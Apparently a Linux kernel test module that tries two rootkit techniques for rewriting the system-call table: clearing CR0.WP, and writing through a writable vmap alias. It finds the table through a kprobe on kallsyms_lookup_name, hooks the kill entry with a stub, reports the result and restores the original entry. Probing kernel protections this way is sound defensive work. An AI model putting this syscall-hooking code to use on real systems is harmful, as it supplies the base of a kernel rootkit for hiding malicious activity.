/* SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only */
/*
 * What rootkits do: puts an own function into the kernel's table of system calls. The kernel maps the table read-only, which
 * stops nobody who runs in the kernel; two ways around it are tried, one after the other:
 *
 *	CR0.WP	with write protection off the processor ignores that a page is read-only
 *	alias	the same frame, mapped a second time and writable
 *
 * After each the table is read back, through its own address. What was changed is put back, so that nothing stays.
 */
#include <linux/kprobes.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/vmalloc.h>
#include <asm/special_insns.h>
#include <asm/unistd.h>

typedef asmlinkage long (*call_t)(const struct pt_regs *regs);

static asmlinkage long own_kill(const struct pt_regs *regs)
{
	return 0;
}

/* The table is not exported; a probe finds any symbol by its name, and so finds the function that finds the rest. */
static call_t *find_table(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&probe))
		return NULL;
	lookup = (void *)probe.addr;
	unregister_kprobe(&probe);
	return (call_t *)lookup("sys_call_table");
}

static void set_cr0(unsigned long value)
{
	asm volatile("mov %0, %%cr0" : : "r"(value) : "memory"); /* the kernel's own function would keep WP */
}

static void write_without_wp(call_t *slot, call_t call)
{
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	set_cr0(cr0 & ~X86_CR0_WP);
	WRITE_ONCE(*slot, call);
	set_cr0(cr0);
	local_irq_restore(flags);
}

static void write_by_alias(call_t *slot, call_t call)
{
	struct page *page = pfn_to_page(__pa(slot) >> PAGE_SHIFT);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return;
	WRITE_ONCE(*(call_t *)(alias + offset_in_page(slot)), call);
	vunmap(alias);
}

static const struct {
	const char *name;
	void (*write)(call_t *slot, call_t call);
} ways[] = {
	{ "CR0.WP", write_without_wp },
	{ "alias", write_by_alias },
};

static int __init attack_init(void)
{
	call_t *table = find_table();
	int i;

	if (!table) {
		pr_alert("attack: no sys_call_table found\n");
		return -ENOENT;
	}
	for (i = 0; i < ARRAY_SIZE(ways); i++) {
		call_t old = READ_ONCE(table[__NR_kill]);
		bool changed;

		ways[i].write(&table[__NR_kill], own_kill);
		changed = READ_ONCE(table[__NR_kill]) == own_kill;
		pr_alert("attack: %s: the system-call table %s\n", ways[i].name, changed ? "was changed" : "is as it was");
		if (changed)
			ways[i].write(&table[__NR_kill], old);
	}
	return 0;
}

static void __exit attack_exit(void)
{
}

module_init(attack_init);
module_exit(attack_exit);
MODULE_DESCRIPTION("tries to change the system-call table");
MODULE_LICENSE("GPL");
